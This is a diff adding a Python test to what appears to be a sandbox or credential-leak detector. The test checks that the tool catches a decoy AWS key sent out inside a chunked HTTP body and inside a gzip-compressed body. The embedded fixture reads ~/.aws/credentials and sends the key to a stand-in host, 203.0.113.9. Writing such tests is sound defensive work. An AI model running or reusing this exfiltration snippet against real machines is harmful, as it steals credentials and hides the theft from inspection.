@@ -304,6 +304,33 @@ except OSError: pass
 """
 
 
+SENDING_BODIES = """
+import gzip, os, socket
+decoy = open(os.path.expanduser('~/.aws/credentials')).read().split('= ')[2].strip().encode()
+def send(port, head, body):
+    with socket.create_connection(('203.0.113.9', port), 5) as out:
+        out.sendall(b'POST / HTTP/1.1\\r\\nHost: api.test\\r\\n' + head + b'\\r\\n\\r\\n' + body)
+chunks = b''.join(b'1\\r\\n' + bytes([byte]) + b'\\r\\n' for byte in decoy)
+send(80, b'Transfer-Encoding: chunked', chunks + b'0\\r\\n\\r\\n')
+packed = gzip.compress(b'{"key": "' + decoy + b'"}')
+send(81, b'Content-Encoding: gzip\\r\\nContent-Length: %d' % len(packed), packed)
+"""
+
+
+def test_a_decoy_in_chunks_or_compressed_is_known(place: Lab, tmp_path: Path) -> None:
+    """A body is looked at as its reader would see it; scope: violated, by both."""
+    policy = tmp_path / "sink.toml"
+    policy.write_text(
+        'schema = 1\nname = "sink"\n[network]\ndefault = "sinkhole"\n[credentials]\ncanaries = true\n', encoding="utf-8"
+    )
+    ran = place.run("-p", str(policy), "--", *python(SENDING_BODIES))
+    assert ran.code == 0, ran.err
+    sent = {use["where"] for use in ran.report["effects"]["credentials"] if use["run"] and use["name"] == "aws"}
+    assert "sent to 203.0.113.9:80, in a chunked body (plain)" in sent
+    assert "sent to 203.0.113.9:81, in a compressed body (plain)" in sent
+    assert {violation["rule"] for violation in ran.report["scope"]["violations"]} >= {"leaked-canary"}
+
+
 def test_a_decoy_that_is_sent_is_known_beyond_what_is_kept_and_in_names(place: Lab, tmp_path: Path) -> None:
     """Past the first 4 KiB, cut in two, in base64; and as hex in the labels of a name; scope: violated, twice."""
     policy = tmp_path / "sink.toml"
